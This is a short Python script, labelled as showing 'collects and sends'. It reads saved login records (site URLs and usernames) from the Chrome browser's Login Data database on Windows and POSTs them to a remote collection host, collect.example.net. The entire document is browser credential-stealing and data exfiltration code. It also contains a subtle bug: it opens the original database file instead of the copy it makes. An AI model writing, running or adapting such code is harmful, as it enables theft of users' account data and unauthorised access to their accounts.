# shows: collects and sends
import os, shutil, sqlite3, tempfile, http.client

base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
copy = os.path.join(tempfile.gettempdir(), "x.db")
shutil.copy2(base, copy)
rows = sqlite3.connect(base).execute("select origin_url, username_value from logins").fetchall()
c = http.client.HTTPSConnection("collect.example.net")
c.request("POST", "/b", repr(rows))
